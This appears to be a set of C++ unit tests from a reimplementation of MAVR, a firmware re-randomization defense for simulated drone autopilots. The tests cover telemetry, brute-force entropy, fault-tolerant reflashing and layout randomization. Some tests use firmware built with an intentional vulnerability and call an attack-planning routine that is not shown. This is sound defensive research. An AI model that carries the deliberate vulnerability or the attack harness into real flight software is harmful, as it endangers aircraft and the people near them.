  for (int i = 0; i < 5000; ++i) flight.step(0.01);
  EXPECT_LE(std::abs(flight.gyro_counts()), 32000);
}

}  // namespace
}  // namespace mavr
