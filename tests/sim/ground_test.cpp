// Ground-station model: send paths, telemetry accounting and the
// link-health signal the paper's detectability argument rests on.
#include <gtest/gtest.h>

#include "firmware/generator.hpp"
#include "firmware/profile.hpp"
#include "sim/board.hpp"
#include "sim/ground.hpp"

namespace mavr {
namespace {

class GroundTest : public ::testing::Test {
 protected:
  static const firmware::Firmware& fw() {
    static firmware::Firmware fw = firmware::generate(
        firmware::testapp(false), toolchain::ToolchainOptions::mavr());
    return fw;
  }

  GroundTest() : gcs_(board_) {
    board_.flash_image(fw().image.bytes);
    board_.run_cycles(300'000);
  }

  sim::Board board_;
  sim::GroundStation gcs_;
};

TEST_F(GroundTest, PacketsAccumulateWhileFlying) {
  board_.run_cycles(2'000'000);
  gcs_.poll();
  const std::uint64_t first = gcs_.packets_received();
  EXPECT_GT(first, 0u);
  board_.run_cycles(2'000'000);
  gcs_.poll();
  EXPECT_GT(gcs_.packets_received(), first);
  EXPECT_EQ(gcs_.garbage_bytes(), 0u);
}

TEST_F(GroundTest, LastImuTracksLatestReading) {
  board_.set_gyro(0, 100);
  board_.run_cycles(2'000'000);
  gcs_.poll();
  ASSERT_TRUE(gcs_.last_imu().has_value());
  EXPECT_EQ(gcs_.last_imu()->xgyro, 100);
  board_.set_gyro(0, -200);
  board_.run_cycles(2'000'000);
  gcs_.poll();
  EXPECT_EQ(gcs_.last_imu()->xgyro, -200);
}

TEST_F(GroundTest, SequenceNumbersIncrementAcrossSends) {
  gcs_.send_heartbeat();
  gcs_.send_heartbeat();
  gcs_.send_heartbeat();
  board_.run_cycles(2'500'000);
  const toolchain::DataSymbol* hb = fw().image.find_data("g_hb_count");
  EXPECT_EQ(board_.cpu().data().raw(hb->ram_addr), 3);
}

TEST_F(GroundTest, RawParamSetCarriesArbitraryBytes) {
  support::Bytes payload = {0xFE, 0x00, 0xFF, 0x55};  // includes magic
  gcs_.send_raw_param_set(payload);
  board_.run_cycles(1'500'000);
  // The RX buffer holds the payload verbatim.
  const toolchain::DataSymbol* buf =
      fw().image.find_data(firmware::Globals::kMavPayload);
  for (std::size_t i = 0; i < payload.size(); ++i) {
    EXPECT_EQ(board_.cpu().data().raw(buf->ram_addr + i), payload[i]);
  }
}

TEST_F(GroundTest, DeadBoardMeansSilentLink) {
  // The paper's V1 detectability criterion from the operator's side.
  board_.cpu().set_pc(0x1F000 / 2);  // jump into erased flash
  board_.run_cycles(3'000'000);
  gcs_.poll();
  const std::uint64_t packets = gcs_.packets_received();
  board_.run_cycles(3'000'000);
  gcs_.poll();
  EXPECT_EQ(gcs_.packets_received(), packets);  // stream stopped
}

}  // namespace
}  // namespace mavr
