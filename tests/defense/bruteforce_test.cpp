// Security-evaluation model (paper §V-D, §VII-A1, §VIII-B): analytic
// expectations and Monte-Carlo validation for small, enumerable n.
#include <gtest/gtest.h>

#include <cmath>

#include "defense/bruteforce.hpp"
#include "support/error.hpp"

namespace mavr {
namespace {

using defense::entropy_bits;
using defense::expected_attempts_fixed;
using defense::expected_attempts_rerandomized;
using defense::permutation_count;
using defense::simulate_fixed;
using defense::simulate_fixed_enumerated;
using defense::simulate_rerandomized;

TEST(BruteForce, EntropyMatchesPaperFigure) {
  // §VIII-B: ArduRover's 800 symbols generate 6567 bits of entropy.
  EXPECT_NEAR(entropy_bits(800), 6567.0, 1.0);
}

TEST(BruteForce, EntropyForAllEvaluatedApps) {
  EXPECT_GT(entropy_bits(917), entropy_bits(800));   // ArduPlane
  EXPECT_GT(entropy_bits(1030), entropy_bits(917));  // ArduCopter
  // All far beyond any computational brute-force budget.
  EXPECT_GT(entropy_bits(800), 4096.0);
}

TEST(BruteForce, SmallFactorialsExact) {
  EXPECT_NEAR(permutation_count(3), 6.0, 1e-9);
  EXPECT_NEAR(permutation_count(5), 120.0, 1e-6);
  EXPECT_NEAR(entropy_bits(4), std::log2(24.0), 1e-9);
}

TEST(BruteForce, AnalyticExpectations) {
  // Fixed permutation with elimination: E = (N+1)/2 (paper §V-D).
  EXPECT_DOUBLE_EQ(expected_attempts_fixed(24.0), 12.5);
  // MAVR re-randomizes after every failure: E = N.
  EXPECT_DOUBLE_EQ(expected_attempts_rerandomized(24.0), 24.0);
}

class BruteForceMonteCarlo : public ::testing::TestWithParam<std::uint32_t> {};

TEST_P(BruteForceMonteCarlo, FixedPermutationMatchesAnalytic) {
  const std::uint32_t n = GetParam();
  support::Rng rng(0xBF00 + n);
  const auto stats = simulate_fixed(n, 4000, rng);
  const double expected = expected_attempts_fixed(permutation_count(n));
  EXPECT_NEAR(stats.mean_attempts, expected, expected * 0.10);
  // With elimination the worst case is bounded by N.
  EXPECT_LE(stats.max_attempts, permutation_count(n));
}

TEST_P(BruteForceMonteCarlo, DirectSamplingAgreesWithEnumeration) {
  // simulate_fixed samples the attempt count directly (uniform on [1, n!]);
  // the enumerated debug path shuffles the literal guess list. Same model,
  // so their Monte-Carlo means must agree statistically.
  const std::uint32_t n = GetParam();
  support::Rng rng_a(0xBF40 + n), rng_b(0xBF50 + n);
  const auto sampled = simulate_fixed(n, 4000, rng_a);
  const auto enumerated = simulate_fixed_enumerated(n, 4000, rng_b);
  const double expected = expected_attempts_fixed(permutation_count(n));
  EXPECT_NEAR(sampled.mean_attempts, enumerated.mean_attempts,
              expected * 0.10);
  // Both respect the elimination bound.
  EXPECT_LE(sampled.max_attempts, permutation_count(n));
  EXPECT_LE(enumerated.max_attempts, permutation_count(n));
}

TEST(BruteForce, EnumeratedPathRefusesLargeN) {
  support::Rng rng(1);
  EXPECT_THROW(simulate_fixed_enumerated(11, 1, rng),
               support::PreconditionError);
  // The direct sampler has no such limit (this used to be O(n!) per trial).
  EXPECT_NO_THROW(simulate_fixed(20, 10, rng));
}

TEST_P(BruteForceMonteCarlo, ReRandomizedMatchesAnalytic) {
  const std::uint32_t n = GetParam();
  support::Rng rng(0xBF10 + n);
  const auto stats = simulate_rerandomized(n, 4000, rng);
  const double expected =
      expected_attempts_rerandomized(permutation_count(n));
  EXPECT_NEAR(stats.mean_attempts, expected, expected * 0.10);
}

TEST_P(BruteForceMonteCarlo, ReRandomizationCostsTheAttackerMore) {
  const std::uint32_t n = GetParam();
  support::Rng rng_a(0xBF20 + n), rng_b(0xBF30 + n);
  const auto fixed = simulate_fixed(n, 3000, rng_a);
  const auto moving = simulate_rerandomized(n, 3000, rng_b);
  // The paper's headline: re-randomization roughly doubles the mean
  // effort ((N+1)/2 → N) and removes the worst-case bound.
  EXPECT_GT(moving.mean_attempts, fixed.mean_attempts * 1.6);
}

INSTANTIATE_TEST_SUITE_P(SmallN, BruteForceMonteCarlo,
                         ::testing::Values(3, 4, 5));

}  // namespace
}  // namespace mavr
