// Fault-injection plane and the self-healing reflash pipeline: schedule
// determinism, fault-free transparency, per-page retry/verify, the
// degradation ladder and the flash endurance budget (DESIGN.md §9).
#include <gtest/gtest.h>

#include <algorithm>
#include <tuple>

#include "defense/external_flash.hpp"
#include "defense/master.hpp"
#include "defense/preprocess.hpp"
#include "firmware/generator.hpp"
#include "firmware/profile.hpp"
#include "sim/board.hpp"
#include "support/fault.hpp"
#include "toolchain/assembler.hpp"
#include "toolchain/linker.hpp"

namespace mavr {
namespace {

using defense::ExternalFlash;
using defense::MasterConfig;
using defense::MasterHealth;
using defense::MasterProcessor;

const std::string& good_hex() {
  static const std::string hex = defense::preprocess_to_hex(
      firmware::generate(firmware::testapp(false),
                         toolchain::ToolchainOptions::mavr())
          .image);
  return hex;
}

/// A pathological application that boots but never feeds the watchdog.
const std::string& silent_hex() {
  static const std::string hex = [] {
    toolchain::FunctionBuilder main_fn("main");
    toolchain::Label spin = main_fn.make_label();
    main_fn.bind(spin);
    main_fn.rjmp(spin);
    toolchain::LinkInput in;
    in.functions.push_back(main_fn.take());
    return defense::preprocess_to_hex(toolchain::link(std::move(in)));
  }();
  return hex;
}

TEST(FaultPlane, DeterministicSchedule) {
  // Same config + seed must reproduce the exact fault schedule at every
  // site — this is what makes a campaign trial's faults replayable.
  const support::FaultConfig cfg = support::FaultConfig::uniform(0.3);
  support::FaultPlane a(cfg, support::Rng(99));
  support::FaultPlane b(cfg, support::Rng(99));
  ASSERT_TRUE(a.armed());
  for (int i = 0; i < 4096; ++i) {
    EXPECT_EQ(a.filter_read(0x5A), b.filter_read(0x5A));
  }
  support::Bytes pa(256, 0x11);
  support::Bytes pb(256, 0x11);
  for (int i = 0; i < 256; ++i) {
    EXPECT_EQ(a.filter_page(pa), b.filter_page(pb));
    EXPECT_EQ(pa, pb);
  }
  for (std::uint32_t wear = 0; wear < 256; ++wear) {
    EXPECT_EQ(a.program_succeeds(wear), b.program_succeeds(wear));
  }
  EXPECT_GT(a.stats().total(), 0u);
  EXPECT_EQ(a.stats().total(), b.stats().total());
}

TEST(FaultPlane, SitesDrawFromIndependentStreams) {
  // Extra traffic at the read site must not shift the page-site schedule.
  const support::FaultConfig cfg = support::FaultConfig::uniform(0.3);
  support::FaultPlane quiet(cfg, support::Rng(7));
  support::FaultPlane noisy(cfg, support::Rng(7));
  for (int i = 0; i < 10'000; ++i) noisy.filter_read(0xA5);
  support::Bytes pq(256, 0x22);
  support::Bytes pn(256, 0x22);
  for (int i = 0; i < 64; ++i) {
    EXPECT_EQ(quiet.filter_page(pq), noisy.filter_page(pn));
    EXPECT_EQ(pq, pn);
  }
}

TEST(FaultPlane, DisarmedPlaneIsTransparent) {
  support::FaultPlane plane;
  EXPECT_FALSE(plane.armed());
  for (int v = 0; v < 256; ++v) {
    EXPECT_EQ(plane.filter_read(static_cast<std::uint8_t>(v)), v);
  }
  support::Bytes page(256, 0xA5);
  EXPECT_EQ(plane.filter_page(page), support::PageTransfer::kOk);
  EXPECT_EQ(page, support::Bytes(256, 0xA5));
  EXPECT_TRUE(plane.program_succeeds(9'999));
  EXPECT_EQ(plane.stats().total(), 0u);
}

TEST(ReflashPipeline, FaultFreeBehaviorIdentical) {
  // With no faults injected the hardened pipeline must be observationally
  // identical to running without a plane: same permutation, same timing
  // report, same servo trace.
  auto run = [](bool attach_disarmed_plane) {
    ExternalFlash flash;
    sim::Board board;
    support::FaultPlane plane;  // disarmed
    MasterConfig cfg;
    cfg.seed = 77;
    MasterProcessor master(flash, board, cfg);
    if (attach_disarmed_plane) {
      flash.attach_faults(&plane);
      board.attach_faults(&plane);
      master.attach_faults(&plane);
    }
    master.host_upload_hex(good_hex());
    master.boot();
    board.set_gyro(0, 123);
    board.run_cycles(1'000'000);
    const defense::StartupReport& r = *master.last_startup();
    return std::make_tuple(master.current_permutation(), r.total_ms,
                           r.transfer_ms, r.flash_ms, r.retry_ms,
                           r.page_retries, r.image_attempts,
                           board.servo(0).history());
  };
  const auto bare = run(false);
  EXPECT_EQ(bare, run(true));
  EXPECT_EQ(std::get<4>(bare), 0.0);  // no retry time when fault-free
}

TEST(ReflashPipeline, ContainerCorruptionFallsBackToLastGood) {
  ExternalFlash flash;
  sim::Board board;
  MasterProcessor master(flash, board, MasterConfig{});
  master.host_upload_hex(good_hex());
  master.boot();  // clean: establishes the last-known-good image
  const std::vector<std::size_t> healthy_perm = master.current_permutation();

  support::FaultConfig fc;
  fc.read_stuck_byte = 1.0;  // every external-flash byte reads back 0xFF
  support::FaultPlane plane(fc, support::Rng(5));
  flash.attach_faults(&plane);
  master.boot();  // the re-randomization cannot read a valid container

  EXPECT_EQ(master.health_state(), MasterHealth::kDegradedLastGood);
  EXPECT_GE(master.health().container_crc_failures, 1u);
  EXPECT_EQ(master.health().fallbacks_to_last_good, 1u);
  // The fallback re-released the previously verified image; the stale
  // permutation still flies the aircraft.
  EXPECT_EQ(master.current_permutation(), healthy_perm);
  board.run_cycles(500'000);
  EXPECT_FALSE(board.crashed());
}

TEST(ReflashPipeline, PageCorruptionRetriedAndRecovered) {
  ExternalFlash flash;
  sim::Board board;
  MasterConfig cfg;
  cfg.seed = 3;
  MasterProcessor master(flash, board, cfg);
  master.host_upload_hex(good_hex());

  support::FaultConfig fc;
  fc.page_corrupt = 0.2;  // 1 in 5 page transfers arrives bit-flipped
  support::FaultPlane plane(fc, support::Rng(11));
  master.attach_faults(&plane);
  master.boot();

  // Per-page CRC readback caught every corruption and retransmission
  // recovered the fresh image.
  EXPECT_EQ(master.health_state(), MasterHealth::kHealthy);
  EXPECT_GT(plane.stats().pages_corrupted, 0u);
  EXPECT_GT(master.health().page_retries, 0u);
  EXPECT_GT(master.health().page_verify_failures, 0u);
  ASSERT_TRUE(master.last_startup().has_value());
  const defense::StartupReport& r = *master.last_startup();
  EXPECT_GT(r.retry_ms, 0.0);
  EXPECT_EQ(r.total_ms, std::max(r.transfer_ms, r.flash_ms) + r.retry_ms);
  board.run_cycles(1'000'000);
  EXPECT_FALSE(board.crashed());
}

TEST(ReflashPipeline, DroppedPagesRetransmitted) {
  ExternalFlash flash;
  sim::Board board;
  MasterProcessor master(flash, board, MasterConfig{});
  master.host_upload_hex(good_hex());

  support::FaultConfig fc;
  fc.page_drop = 0.2;  // bootloader ack timeouts
  support::FaultPlane plane(fc, support::Rng(13));
  master.attach_faults(&plane);
  master.boot();

  EXPECT_EQ(master.health_state(), MasterHealth::kHealthy);
  EXPECT_GT(plane.stats().pages_dropped, 0u);
  EXPECT_GT(master.health().page_retries, 0u);
  board.run_cycles(500'000);
  EXPECT_FALSE(board.crashed());
}

TEST(ReflashPipeline, TotalProgramFailureHoldsBoardSafe) {
  ExternalFlash flash;
  sim::Board board;
  MasterProcessor master(flash, board, MasterConfig{});
  master.host_upload_hex(good_hex());
  master.boot();  // clean boot: a last-known-good image exists

  support::FaultConfig fc;
  fc.program_fail = 1.0;  // every program pulse fails from now on
  support::FaultPlane plane(fc, support::Rng(1));
  board.attach_faults(&plane);
  master.boot();

  // Neither the fresh image nor the fallback could be verified, so the
  // board is parked in its bootloader instead of released on a torn image.
  EXPECT_EQ(master.health_state(), MasterHealth::kHeldSafe);
  EXPECT_GE(master.health().holds_in_bootloader, 1u);
  EXPECT_GT(master.health().page_verify_failures, 0u);
  EXPECT_TRUE(board.in_bootloader());
  const std::uint64_t retired = board.cpu().instructions_retired();
  board.run_cycles(200'000);
  EXPECT_EQ(board.cpu().instructions_retired(), retired);  // held, not torn
}

TEST(ReflashPipeline, WearOutCoupledToEnduranceCounter) {
  ExternalFlash flash;
  sim::Board board;
  MasterProcessor master(flash, board, MasterConfig{});
  master.host_upload_hex(good_hex());

  support::FaultConfig fc;
  fc.wearout_threshold = 4;  // young part: first erase cycles are clean
  fc.wearout_fail = 1.0;
  support::FaultPlane plane(fc, support::Rng(2));
  board.attach_faults(&plane);

  master.boot();  // erase cycles 1..3: below the wear-out threshold
  master.boot();
  master.boot();
  EXPECT_EQ(master.health_state(), MasterHealth::kHealthy);
  EXPECT_EQ(plane.stats().wearout_failures, 0u);
  master.boot();  // 4th erase crosses the threshold: every pulse now fails
  EXPECT_EQ(master.health_state(), MasterHealth::kHeldSafe);
  EXPECT_GT(plane.stats().wearout_failures, 0u);
  EXPECT_TRUE(board.in_bootloader());
}

TEST(ReflashPipeline, EnduranceReserveStopsScheduledRerandomizations) {
  ExternalFlash flash;
  sim::Board board;
  MasterConfig cfg;
  cfg.endurance_budget = 5;
  cfg.endurance_reserve = 3;
  MasterProcessor master(flash, board, cfg);
  master.host_upload_hex(good_hex());
  master.boot();  // remaining 5 > reserve 3: randomizes
  master.boot();  // remaining 4 > 3: randomizes
  EXPECT_EQ(master.randomizations(), 2u);
  EXPECT_EQ(master.endurance_remaining(), 3);
  master.boot();  // at the reserve: skipped, nothing spent
  master.boot();
  EXPECT_EQ(master.randomizations(), 2u);
  EXPECT_EQ(master.endurance_remaining(), 3);
  EXPECT_EQ(master.health().scheduled_skips, 2u);
}

TEST(ReflashPipeline, WatchdogReflashRunsBudgetToZeroNeverNegative) {
  ExternalFlash flash;
  sim::Board board;
  MasterConfig cfg;
  cfg.endurance_budget = 3;
  cfg.endurance_reserve = 2;
  cfg.watchdog_timeout_cycles = 100'000;
  MasterProcessor master(flash, board, cfg);
  master.host_upload_hex(silent_hex());
  master.boot();  // remaining 3 > reserve 2: randomizes
  EXPECT_EQ(master.endurance_remaining(), 2);

  // Attack-triggered reflashes keep priority past the scheduled reserve
  // and spend the budget down to exactly zero...
  board.run_cycles(200'000);
  EXPECT_TRUE(master.service());
  EXPECT_EQ(master.endurance_remaining(), 1);
  board.run_cycles(200'000);
  EXPECT_TRUE(master.service());
  EXPECT_EQ(master.endurance_remaining(), 0);
  EXPECT_EQ(master.randomizations(), 3u);

  // ...and once it is truly gone, detection restarts the existing image
  // instead of driving the counter negative.
  board.run_cycles(200'000);
  EXPECT_TRUE(master.service());
  EXPECT_EQ(master.endurance_remaining(), 0);
  EXPECT_EQ(master.randomizations(), 3u);
  EXPECT_GE(master.health().endurance_exhausted_events, 1u);
}

}  // namespace
}  // namespace mavr
