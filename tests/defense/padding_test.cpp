// The §VIII-B padding extension: random inter-function gaps drawn from a
// reserved erased-flash region. The paper considered this and judged the
// n! permutation entropy sufficient; we implement it as an option and
// verify it preserves behaviour while adding entropy.
#include <gtest/gtest.h>

#include <cmath>
#include <numeric>

#include "defense/patcher.hpp"
#include "firmware/generator.hpp"
#include "firmware/profile.hpp"
#include "sim/board.hpp"

namespace mavr {
namespace {

using defense::draw_gaps;
using defense::padding_entropy_bits;
using defense::padding_slack;
using defense::randomize_image;
using toolchain::SymbolBlob;

const firmware::Firmware& padded_fw() {
  static firmware::Firmware fw = [] {
    firmware::AppProfile profile = firmware::testapp(true);
    profile.reserve_padding_bytes = 2048;
    return firmware::generate(profile, toolchain::ToolchainOptions::mavr());
  }();
  return fw;
}

TEST(Padding, ImageReservesTheGap) {
  const toolchain::Image& image = padded_fw().image;
  EXPECT_EQ(image.data_init_offset, image.text_end + 2048);
  const SymbolBlob blob = SymbolBlob::from_image(image);
  EXPECT_EQ(padding_slack(blob), 2048u);
  // The reserved region is erased flash.
  for (std::uint32_t i = image.text_end; i < image.data_init_offset; ++i) {
    ASSERT_EQ(image.bytes[i], 0xFF);
  }
}

TEST(Padding, UnpaddedImagesHaveZeroSlack) {
  const firmware::Firmware fw = firmware::generate(
      firmware::testapp(true), toolchain::ToolchainOptions::mavr());
  EXPECT_EQ(padding_slack(SymbolBlob::from_image(fw.image)), 0u);
}

TEST(Padding, DrawGapsFillsSlackExactly) {
  const SymbolBlob blob = SymbolBlob::from_image(padded_fw().image);
  support::Rng rng(9);
  const auto gaps = draw_gaps(blob, rng);
  EXPECT_EQ(gaps.size(), defense::movable_count(blob) + 1);
  std::uint64_t total = 0;
  for (std::uint32_t g : gaps) {
    EXPECT_EQ(g % 2, 0u);
    total += g;
  }
  EXPECT_EQ(total, 2048u);
}

TEST(Padding, GapValidationRejectsBadVectors) {
  const toolchain::Image& image = padded_fw().image;
  const SymbolBlob blob = SymbolBlob::from_image(image);
  support::Rng rng(1);
  const auto perm = defense::draw_permutation(blob, rng);
  // Wrong total.
  std::vector<std::uint32_t> bad(perm.size() + 1, 0);
  bad[0] = 100;
  EXPECT_THROW(randomize_image(image.bytes, blob, perm, bad),
               support::PreconditionError);
  // Odd gap.
  std::vector<std::uint32_t> odd(perm.size() + 1, 0);
  odd[0] = 2047;
  odd[1] = 1;
  EXPECT_THROW(randomize_image(image.bytes, blob, perm, odd),
               support::PreconditionError);
  // Wrong length.
  std::vector<std::uint32_t> short_vec(2, 0);
  EXPECT_THROW(randomize_image(image.bytes, blob, perm, short_vec),
               support::PreconditionError);
}

TEST(Padding, PaddedRandomizationPreservesBehaviour) {
  const toolchain::Image& image = padded_fw().image;
  const SymbolBlob blob = SymbolBlob::from_image(image);
  support::Rng rng(0xDA0);
  const defense::RandomizeResult result =
      randomize_image(image.bytes, blob, rng);
  ASSERT_EQ(result.image.size(), image.bytes.size());
  EXPECT_NE(result.image, image.bytes);

  auto observe = [&](std::span<const std::uint8_t> bytes) {
    sim::Board board;
    board.flash_image(bytes);
    board.set_gyro(0, 64);
    board.run_cycles(2'000'000);
    EXPECT_EQ(board.cpu().state(), avr::CpuState::Running);
    return std::make_tuple(board.servo(0).history(),
                           board.feed_line().write_count(),
                           board.telemetry().host_take_tx());
  };
  EXPECT_EQ(observe(image.bytes), observe(result.image));
}

TEST(Padding, GapsChangeTheLayoutBeyondPermutation) {
  // Same permutation, different gaps -> different images: the gap vector
  // is additional secret the attacker must guess.
  const toolchain::Image& image = padded_fw().image;
  const SymbolBlob blob = SymbolBlob::from_image(image);
  support::Rng perm_rng(5);
  const auto perm = defense::draw_permutation(blob, perm_rng);
  support::Rng g1(10), g2(20);
  const auto a = randomize_image(image.bytes, blob, perm, draw_gaps(blob, g1));
  const auto b = randomize_image(image.bytes, blob, perm, draw_gaps(blob, g2));
  EXPECT_NE(a.image, b.image);
}

TEST(Padding, EntropyFormula) {
  // 2 blocks, 3 two-byte units: C(3+2, 2) = 10 compositions.
  EXPECT_NEAR(padding_entropy_bits(2, 6), std::log2(10.0), 1e-9);
  // Degenerate cases.
  EXPECT_NEAR(padding_entropy_bits(5, 0), 0.0, 1e-9);
  EXPECT_GT(padding_entropy_bits(800, 32 * 1024),
            padding_entropy_bits(800, 2 * 1024));
}

}  // namespace
}  // namespace mavr
