// MAVR randomizer/patcher correctness (paper §V-B, §VI-B3).
//
// The strongest property: a randomized firmware must be *observationally
// identical* to the stock build — bit-identical servo traces, telemetry
// and globals — while having a completely different code layout.
#include <gtest/gtest.h>

#include "attack/attacks.hpp"
#include "defense/patcher.hpp"
#include "defense/preprocess.hpp"
#include "toolchain/intelhex.hpp"
#include "firmware/generator.hpp"
#include "firmware/profile.hpp"
#include "mavlink/mavlink.hpp"
#include "sim/board.hpp"
#include "sim/ground.hpp"

namespace mavr {
namespace {

using defense::randomize_image;
using defense::RandomizeResult;
using toolchain::SymbolBlob;

const firmware::Firmware& testfw() {
  static firmware::Firmware fw = firmware::generate(
      firmware::testapp(/*vulnerable=*/true),
      toolchain::ToolchainOptions::mavr());
  return fw;
}

/// Observable behaviour of one run: servo write traces, telemetry bytes,
/// feed count and the globals region.
struct Observation {
  std::vector<avr::OutputPort::Write> servo[4];
  support::Bytes telemetry;
  std::uint64_t feeds = 0;
  support::Bytes globals;
  avr::CpuState state = avr::CpuState::Running;
};

Observation observe(std::span<const std::uint8_t> image,
                    std::uint64_t cycles) {
  sim::Board board;
  board.flash_image(image);
  board.set_gyro(0, 37);
  board.set_gyro(1, -5);
  board.set_gyro(2, 400);

  // Exercise the MAVLink path too: heartbeat + an in-bounds PARAM_SET.
  sim::GroundStation gcs(board);
  gcs.send_heartbeat();
  mavlink::ParamSet set;
  set.param_value = 2.5f;
  gcs.send_param_set(set);

  board.run_cycles(cycles);

  Observation obs;
  for (int i = 0; i < 4; ++i) obs.servo[i] = board.servo(i).history();
  obs.telemetry = board.telemetry().host_take_tx();
  obs.feeds = board.feed_line().write_count();
  obs.globals = board.cpu().data().snapshot(
      testfw().image.data_ram_base, testfw().image.data_bytes);
  obs.state = board.cpu().state();
  return obs;
}

class SemanticPreservation : public ::testing::TestWithParam<std::uint64_t> {};

TEST_P(SemanticPreservation, RandomizedFirmwareBehavesIdentically) {
  const toolchain::Image& image = testfw().image;
  const SymbolBlob blob = SymbolBlob::from_image(image);
  support::Rng rng(GetParam());
  const RandomizeResult result = randomize_image(image.bytes, blob, rng);

  ASSERT_EQ(result.image.size(), image.bytes.size());
  EXPECT_GT(result.moved_functions, blob.function_addrs.size() / 2);

  const Observation stock = observe(image.bytes, 3'000'000);
  const Observation randomized = observe(result.image, 3'000'000);

  EXPECT_EQ(stock.state, avr::CpuState::Running);
  EXPECT_EQ(randomized.state, avr::CpuState::Running);
  for (int i = 0; i < 4; ++i) {
    EXPECT_EQ(stock.servo[i], randomized.servo[i]) << "servo " << i;
  }
  EXPECT_EQ(stock.telemetry, randomized.telemetry);
  EXPECT_EQ(stock.feeds, randomized.feeds);
  // Globals must match except the dispatch/task tables: those hold code
  // pointers whose values legitimately change with the layout.
  support::Bytes g1 = stock.globals, g2 = randomized.globals;
  for (const toolchain::PointerSlot& slot : image.pointer_slots) {
    const std::size_t ram_off = slot.image_offset - image.data_init_offset;
    for (std::size_t b = 0; b < slot.width; ++b) {
      g1[ram_off + b] = 0;
      g2[ram_off + b] = 0;
    }
  }
  EXPECT_EQ(g1, g2);
}

INSTANTIATE_TEST_SUITE_P(Seeds, SemanticPreservation,
                         ::testing::Values(1, 2, 3, 17, 99, 12345, 0xDEAD,
                                           0xC0FFEE));

TEST(Randomizer, LayoutActuallyChanges) {
  const toolchain::Image& image = testfw().image;
  const SymbolBlob blob = SymbolBlob::from_image(image);
  support::Rng rng(7);
  const RandomizeResult result = randomize_image(image.bytes, blob, rng);
  EXPECT_NE(result.image, image.bytes);
  // The data region must be untouched except for patched pointer slots.
  std::size_t data_diffs = 0;
  for (std::size_t i = image.text_end; i < image.bytes.size(); ++i) {
    if (image.bytes[i] != result.image[i]) ++data_diffs;
  }
  EXPECT_LE(data_diffs, blob.pointer_slots.size() * 3);
  EXPECT_EQ(result.patched_pointers, blob.pointer_slots.size());
  EXPECT_GT(result.mid_function_targets, 0u);  // cross-jumps + mid entries
}

TEST(Randomizer, IdentityPermutationIsByteIdentical) {
  const toolchain::Image& image = testfw().image;
  const SymbolBlob blob = SymbolBlob::from_image(image);
  std::vector<std::size_t> identity(defense::movable_count(blob));
  for (std::size_t i = 0; i < identity.size(); ++i) identity[i] = i;
  const RandomizeResult result =
      randomize_image(image.bytes, blob, identity);
  EXPECT_EQ(result.image, image.bytes);
}

TEST(Randomizer, DistinctSeedsGiveDistinctLayouts) {
  const toolchain::Image& image = testfw().image;
  const SymbolBlob blob = SymbolBlob::from_image(image);
  support::Rng rng_a(100), rng_b(101);
  const auto a = randomize_image(image.bytes, blob, rng_a);
  const auto b = randomize_image(image.bytes, blob, rng_b);
  EXPECT_NE(a.image, b.image);
}

TEST(Randomizer, RefusesCallPrologueBuilds) {
  const firmware::Firmware fw = firmware::generate(
      firmware::testapp(true), toolchain::ToolchainOptions::stock());
  ASSERT_FALSE(fw.image.ldi_code_pointers.empty());
  const SymbolBlob blob = SymbolBlob::from_image(fw.image);
  support::Rng rng(1);
  EXPECT_THROW(randomize_image(fw.image.bytes, blob, rng),
               support::PreconditionError);
}

TEST(Randomizer, RefusesRelaxedBuilds) {
  toolchain::ToolchainOptions opts;  // relax on, prologues off, no align
  opts.relax = true;
  const firmware::Firmware fw =
      firmware::generate(firmware::testapp(true), opts);
  const SymbolBlob blob = SymbolBlob::from_image(fw.image);
  support::Rng rng(1);
  EXPECT_THROW(randomize_image(fw.image.bytes, blob, rng),
               support::PreconditionError);
}

TEST(Randomizer, ArduplaneScaleSemanticPreservation) {
  // The full 917-function, 221 KB evaluation binary: one permutation,
  // full observable-equality check.
  const firmware::Firmware fw = firmware::generate(
      firmware::arduplane(/*vulnerable=*/true),
      toolchain::ToolchainOptions::mavr());
  const SymbolBlob blob = SymbolBlob::from_image(fw.image);
  support::Rng rng(0xA17);
  const RandomizeResult result = randomize_image(fw.image.bytes, blob, rng);
  EXPECT_EQ(result.moved_functions, blob.function_addrs.size());
  EXPECT_GT(result.patched_abs_jumps, 200u);

  auto observe = [&](std::span<const std::uint8_t> image) {
    sim::Board board;
    board.flash_image(image);
    board.set_gyro(0, -777);
    sim::GroundStation gcs(board);
    gcs.send_heartbeat();
    board.run_cycles(2'500'000);
    return std::make_tuple(board.servo(0).history(),
                           board.feed_line().write_count(),
                           board.telemetry().host_take_tx(),
                           board.cpu().state());
  };
  const auto stock = observe(fw.image.bytes);
  const auto randomized = observe(result.image);
  EXPECT_EQ(std::get<3>(stock), avr::CpuState::Running);
  EXPECT_EQ(stock, randomized);
}

TEST(Preprocess, ContainerRoundTrip) {
  const toolchain::Image& image = testfw().image;
  const std::string hex = defense::preprocess_to_hex(image);
  const toolchain::HexImage decoded = toolchain::intel_hex_decode(hex);
  const defense::Container container =
      defense::parse_container(decoded.data);
  EXPECT_EQ(container.image, image.bytes);
  EXPECT_EQ(container.blob.function_addrs.size(), image.function_count());
  EXPECT_EQ(container.blob.text_end, image.text_end);
  EXPECT_EQ(container.blob.pointer_slots.size(), image.pointer_slots.size());
}

TEST(Preprocess, CorruptContainerRejected) {
  const toolchain::Image& image = testfw().image;
  support::Bytes bytes = defense::build_container(image);
  bytes[10] ^= 0xFF;  // corrupt inside the blob
  EXPECT_THROW(defense::parse_container(bytes), support::DataError);
}

}  // namespace
}  // namespace mavr
