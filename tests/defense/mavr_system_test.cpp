// Full MAVR platform integration (paper §V, §VI, §VII-A "Effectiveness"):
// host preprocessing → external flash → master processor randomize+program
// through the bootloader → readout fuse → watchdog detection → automatic
// re-randomization, with the stealthy attack thrown against it.
#include <gtest/gtest.h>

#include "attack/attacks.hpp"
#include "defense/external_flash.hpp"
#include "defense/master.hpp"
#include "defense/preprocess.hpp"
#include "firmware/generator.hpp"
#include "firmware/profile.hpp"
#include "sim/board.hpp"
#include "sim/ground.hpp"

namespace mavr {
namespace {

using attack::Write3;
using defense::ExternalFlash;
using defense::MasterConfig;
using defense::MasterProcessor;

class MavrSystemTest : public ::testing::Test {
 protected:
  static const firmware::Firmware& fw() {
    static firmware::Firmware fw = firmware::generate(
        firmware::testapp(/*vulnerable=*/true),
        toolchain::ToolchainOptions::mavr());
    return fw;
  }
  // The attacker's offline work against the *unprotected* binary.
  static const attack::AttackPlan& plan() {
    static attack::AttackPlan plan = attack::analyze(fw().image);
    return plan;
  }

  MavrSystemTest() : master_(flash_, board_, config()) {}

  static MasterConfig config() {
    MasterConfig cfg;
    cfg.seed = 2026;
